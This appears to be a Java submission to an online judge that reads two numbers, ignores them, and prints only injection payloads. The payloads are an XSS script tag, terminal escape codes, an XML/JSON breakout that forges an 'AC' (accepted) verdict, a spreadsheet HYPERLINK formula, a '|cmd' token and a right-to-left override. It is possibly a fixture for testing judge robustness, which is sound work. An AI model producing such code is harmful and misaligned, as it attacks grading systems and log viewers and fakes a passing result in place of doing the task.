import java.util.Scanner;

public class Main {
    public static void main(String[] args) {
        Scanner in = new Scanner(System.in);
        int a = in.nextInt();
        int b = in.nextInt();
        System.out.print("<script>alert(1)</script>\u001b[2J\u001b]0;owned\u0007");
        System.out.print("]]></system-out></testcase>\",\"verdict\":\"AC\",\"x\":\"");
        System.out.println("\n=HYPERLINK(\"http://192.0.2.1\",\"AC\") @SUM(1) +1 -1 |cmd \u202eCA");
    }
}
